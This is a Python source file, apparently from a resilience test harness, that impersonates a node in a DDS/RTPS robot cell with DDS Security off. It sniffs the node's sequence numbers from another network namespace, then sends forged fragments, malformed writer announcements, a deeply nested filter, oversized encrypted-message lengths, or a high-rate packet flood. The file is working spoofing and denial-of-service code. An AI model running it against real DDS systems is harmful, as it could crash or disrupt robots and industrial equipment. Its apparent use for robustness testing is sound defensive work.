"""Sends packets in the name of a node of a cell without DDS Security. This program runs in its own network namespace.

impostor.py FILE CASE AMOUNT TARGETS
    FILE       packets of the cell (attack.py capture). They show the GUIDs of the node's writers.
    CASE       flood, or one of the functions in CASES: what is wrong with the packets
    AMOUNT     how many seconds the flood lasts, or how often the program waits for a sample of the node and then sends the packets
    TARGETS    JSON: {"udp": [[address, port], ...], "from": own address, "name": address of the node in whose name the packets are,
               "near": network namespace of a machine that receives that node's samples}
The program sees the packets for that machine, and so knows the sequence number that the node's writer uses next. It prints as JSON how many
packets it sent."""

import ctypes
import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack
from attack import DATA, DATA_FRAG, HEARTBEAT

ANNOUNCES_PARTICIPANTS, ANNOUNCES_WRITERS = 0x000100C2, 0x000003C2
TOPIC, ENDPOINT = 0x05, 0x5A
STATUS = b"takt/device"


def submessages(packet):
    """Yields the kind, flags and content of each submessage; all in little-endian byte order, as Fast DDS sends them."""
    at = 20
    while packet[:4] == b"RTPS" and at + 4 <= len(packet):
        kind, flags, size = struct.unpack_from("<BBH", packet, at)
        size = size or len(packet) - at - 4
        yield kind, flags, packet[at + 4:at + 4 + size]
        at += 4 + size


def parameters(data):
    at, found = 0, {}
    while at + 4 <= len(data):
        which, size = struct.unpack_from("<HH", data, at)
        if which == 1:
            break
        found[which] = data[at + 4:at + 4 + size]
        at += 4 + size
    return found


def announcements(packets):
    """Yields each announcement of a writer: its sender, its sequence number and its parameter list."""
    for packet in packets:
        for kind, flags, body in submessages(packet):
            if kind == DATA and len(body) > 24 and struct.unpack_from(">I", body, 8)[0] == ANNOUNCES_WRITERS and flags & 6 == 4:
                yield packet[8:20], number_in(body), body[24:]


def number_in(body):
    high, low = struct.unpack_from("<iI", body, 12)
    return high * 2 ** 32 + low


def number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def submessage(kind, flags, body):
    return struct.pack("<BBH", kind, flags | 1, len(body)) + body


def data(writer, sequence, content, flags=4):
    return submessage(DATA, flags, struct.pack("<HH", 0, 16) + bytes(4) + writer + number(sequence) + content)


def fragment(writer, sequence, first, count, size, sample, content):
    return submessage(DATA_FRAG, 0, struct.pack("<HH", 0, 28) + bytes(4) + writer + number(sequence) +
                      struct.pack("<IHHI", first, count, size, sample) + content)


def cable(machine):
    """Returns a socket that receives what the network interface of another machine receives, as at a mirror port of a switch."""
    libc = ctypes.CDLL(None, use_errno=True)
    new_network = 0x40000000
    with open("/proc/self/ns/net") as here, open("/run/netns/" + machine) as there:
        if libc.setns(there.fileno(), new_network) != 0:
            raise OSError(ctypes.get_errno(), "setns")
        made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800))
        libc.setns(here.fileno(), new_network)
    made.settimeout(0.05)
    return made


class Silent(Exception):
    """The node sends no samples any more: it has ended, or it hangs."""


class Impostor:
    def __init__(self, path, targets):
        self.targets = targets["udp"]
        self.udp = attack.sender(targets)
        self.sent = 0
        self.packets = attack.read_captured(path)
        # The node's writers, by topic. A node in the same cell has the same ids.
        self.writers = {}
        self.announced = list(announcements(self.packets))
        self.counter = path + ".announced"
        for _, _, content in self.announced:
            found = parameters(content)
            if TOPIC in found and ENDPOINT in found:
                self.writers[found[TOPIC][4:].split(b"\0")[0]] = found[ENDPOINT][12:]
        self.cable = cable(targets["near"])
        self.name = None
        self.address = socket.inet_aton(targets["name"])

    def next(self):
        """Waits for the next sample of the node's writer. Returns the sequence number of the one after it, and remembers the GUID prefix."""
        while select.select([self.cable], [], [], 0)[0]:
            self.cable.recv(65535)  # an earlier packet
        end = time.monotonic() + 10
        while time.monotonic() < end:
            try:
                ip = self.cable.recv(65535)[14:]
            except socket.timeout:
                continue
            if ip[9] != 17 or ip[12:16] != self.address:
                continue
            packet = ip[(ip[0] & 15) * 4 + 8:]
            for kind, _, body in submessages(packet):
                if kind == DATA and body[8:12] == self.writers[STATUS]:
                    self.name = packet[8:20]
                    return number_in(body) + 1
        raise Silent

    def send(self, *contents):
        for target in self.targets:
            self.udp.sendto(b"RTPS\x02\x03\x01\x0f" + self.name + b"".join(contents), tuple(target))
            self.sent += 1


# ---- DATA_FRAG with the next number of the writer of takt/device

def false_size(me, at):
    """The second of two fragments. The second one has 3 bytes, but a fragment would have 50,000."""
    me.send(fragment(me.writers[STATUS], at, 2, 1, 50000, 50003, bytes(4)))


def one_of_two(me, at):
    """Well-formed, but the node itself sends the sample as a whole."""
    me.send(fragment(me.writers[STATUS], at, 2, 1, 4000, 8000, bytes(4000)))


def whole_but_invalid(me, at):
    """All fragments in one packet. The content is no valid sample."""
    me.send(fragment(me.writers[STATUS], at, 1, 1, 1000, 1000, bytes(1000)))


def many_begun(me, at):
    """Fragments of a thousand samples that are larger than a sample of this type may be."""
    for i in range(1000):
        me.send(fragment(me.writers[STATUS], at + i, 1, 1, 1000, 60_000_000, bytes(1000)))


def far_ahead(me, at):
    """Samples that are as long as a packet, and must wait for earlier ones."""
    for i in range(500):
        me.send(data(me.writers[STATUS], at + 3000 + me.sent, bytes((0, 1, 0, 0)) + struct.pack("<I", 7 + i).ljust(60000, b"x")))


# ---- Announcements of the writer of takt/device, each with one more parameter

def announce(me, which, value):
    """Sends the announcement with each number that the reader may expect next: the node may have dropped some of those before."""
    content = next(content for sender, _, content in me.announced if sender == me.name and
                   parameters(content)[TOPIC][4:].startswith(STATUS))
    last = max(number for sender, number, _ in me.announced if sender == me.name)
    with open(me.counter, "a+b") as file:  # one byte for each announcement, also of earlier runs
        file.write(b".")
        count = file.tell()
    value = value.ljust((len(value) + 3) // 4 * 4, b"\0")
    for i in range(count):
        me.send(data(struct.pack(">I", ANNOUNCES_WRITERS), last + 1 + i,
                     bytes((0, 3, 0, 0)) + struct.pack("<HH", which, len(value)) + value + content))


def text(value):
    return struct.pack("<I", len(value) + 1) + value.ljust((len(value) + 4) // 4 * 4, b"\0")


def false_counts(me, at):
    announce(me, 0x73, struct.pack("<II", 0xFFFFFFFF, 0))
    announce(me, 0x8006, struct.pack("<IQ", 0xFFFFFFFF, 0))


def nested_filter(me, at):
    announce(me, 0x35, text(b"f") + text(b"takt/device") + text(b"DDSSQL") + text(b"(" * 20000 + b"a=1" + b")" * 20000) + struct.pack("<I", 0))


def false_types(me, at):
    """Descriptions of types whose counts and kinds are wrong. The first byte of a type identifier is its kind."""
    for which in (0x69, 0x72, 0x75):
        for kind in (0x00, 0x70, 0x71, 0x80, 0x81, 0x90, 0xF1, 0xF2):
            announce(me, which, bytes((kind, 0xFF, 0xFF, 0x3F)) + b"\xff\xff\xff\x3f" * 60)


def false_durations(me, at):
    for which in (0x02, 0x04, 0x1A, 0x1B, 0x23, 0x27, 0x2B):  # leases, latencies, deadlines, lifespans, ...
        announce(me, which, b"\xff" * 12)


# ---- Other packets

def encrypted(me, at):
    """Encrypted messages whose content claims to be about 2^32 bytes long. They have no sequence number."""
    for size in (0xFFFFFFF0, 0xFFFFFFF8, 0xFFFFFFFC, 0xFFFFFFFD, 0xFFFFFFFF):
        for prefix in (0x31, 0x33):
            body = struct.pack(">I", size)
            for content in (body, body + bytes(64)):
                me.send(submessage(prefix, 0, bytes(20)), submessage(0x30, 0, content), submessage(prefix + 1, 0, bytes(20)))


def of_nobody(me, at):
    """Announcements of a participant without a GUID, and of one whose GUID is zero. It is lost after 0.1 s."""
    def parameter(which, value):
        return struct.pack("<HH", which, len(value)) + value
    locator = struct.pack("<II", 1, 7410) + bytes(12) + socket.inet_aton("127.0.0.1")
    content = bytes((0, 3, 0, 0)) + parameter(0x15, bytes((2, 3, 0, 0))) + parameter(0x16, bytes((1, 15, 0, 0))) + \
        parameter(0x02, struct.pack("<II", 0, 0x1999999A)) + parameter(0x31, locator) + parameter(0x32, locator)
    for i, guid in enumerate((b"", parameter(0x50, bytes(16)), parameter(0x70, bytes(16)))):
        me.name = b"somebody" + struct.pack("<I", at + i)
        me.send(data(struct.pack(">I", ANNOUNCES_PARTICIPANTS), 1, content + guid + struct.pack("<HH", 1, 0)))
    time.sleep(0.2)


CASES = {f.__name__: f for f in (false_size, one_of_two, whole_but_invalid, many_begun, far_ahead, false_counts, nested_filter, false_types,
                                 false_durations, encrypted, of_nobody)}


# ---- A storm

class Head(ctypes.Structure):
    """struct msghdr of Linux."""
    _fields_ = [("name", ctypes.c_void_p), ("name_size", ctypes.c_uint32), ("parts", ctypes.c_void_p), ("part_count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t), ("flags", ctypes.c_int)]


class Message(ctypes.Structure):
    """struct mmsghdr of Linux."""
    _fields_ = [("head", Head), ("size", ctypes.c_uint32)]


def flood(me, seconds, rate):
    """Sends samples that the readers already have, fragments of samples that are too long, and heartbeats that each ask for an answer."""
    at = me.next()
    writer = me.writers[STATUS]
    sample, flags = next((bytes(body[20:]), flags) for packet in me.packets for kind, flags, body in submessages(packet)
                         if kind == DATA and flags & 4 and body[8:12] == writer)
    packets = []
    for i in range(99):
        packets.append((data(writer, 1, sample, flags), fragment(writer, at + i, 1, 1, 1000, 60_000_000, bytes(1000)),
                        submessage(HEARTBEAT, 0, bytes(4) + writer + number(1) + number(at - 1) + struct.pack("<I", 0x7FFF0000 + i)))[i % 3])
    targets = [struct.pack("<HH", socket.AF_INET, socket.htons(port)) + socket.inet_aton(address) + bytes(8) for address, port in me.targets]
    kept, messages = [], (Message * (len(packets) * len(targets)))()
    for i, message in enumerate(messages):
        content = ctypes.create_string_buffer(b"RTPS\x02\x03\x01\x0f" + me.name + packets[i // len(targets)])
        name = ctypes.create_string_buffer(targets[i % len(targets)])
        part = (ctypes.c_size_t * 2)(ctypes.addressof(content), len(content) - 1)
        kept.append((content, name, part))
        message.head.name, message.head.name_size = ctypes.addressof(name), 16
        message.head.parts, message.head.part_count = ctypes.addressof(part), 1
    libc = ctypes.CDLL(None, use_errno=True)
    begin = time.monotonic()
    while (now := time.monotonic()) < begin + seconds:
        due = int((now - begin) * rate) - me.sent
        first = me.sent % len(messages)
        if due <= 0:
            time.sleep(0.0005)
            continue
        count = min(due, len(messages) - first, 50)
        done = libc.sendmmsg(me.udp.fileno(), ctypes.byref(messages, first * ctypes.sizeof(Message)), count, 0)
        if done < 0:
            raise OSError(ctypes.get_errno(), "sendmmsg")
        me.sent += done


def main():
    path, case, amount, targets = sys.argv[1:]
    me = Impostor(path, json.loads(targets))
    begin = time.monotonic()
    silent = False
    try:
        if case == "flood":
            os.nice(10)  # The attacker simulates another machine, so it must not take CPU time from the processes of the cell.
            flood(me, float(amount), 100_000)
        else:
            for _ in range(int(amount)):
                CASES[case](me, me.next())
            me.next()
    except Silent:
        silent = True
    print(json.dumps({"silent": silent, "sent": me.sent, "per_second": round(me.sent / (time.monotonic() - begin))}))


if __name__ == "__main__":
    main()
